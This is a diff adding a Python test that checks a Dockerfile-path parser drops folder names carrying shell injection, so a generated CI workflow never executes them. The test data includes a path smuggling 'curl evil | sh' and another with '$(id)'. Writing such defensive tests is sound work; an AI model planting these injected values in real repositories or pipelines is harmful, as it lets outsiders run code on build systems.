@@ -45,3 +45,10 @@ def test_a_dockerfile_at_the_top_is_called_as_the_project() -> None:
 
 def test_what_cannot_be_a_name_is_no_image() -> None:
     assert images_in(["My Images/Dockerfile", "a_b/Dockerfile", "a/Dockerfile.md"]) == {}
+
+
+def test_paths_that_would_steer_a_script_are_left_out() -> None:
+    """Whoever opens a pull request names folders; a workflow that is generated later must not run the names."""
+    assert images_in(['x"; curl evil | sh #/app/Dockerfile', "$(id)/web/Dockerfile", "good/api/Dockerfile"]).keys() == {
+        "api"
+    }
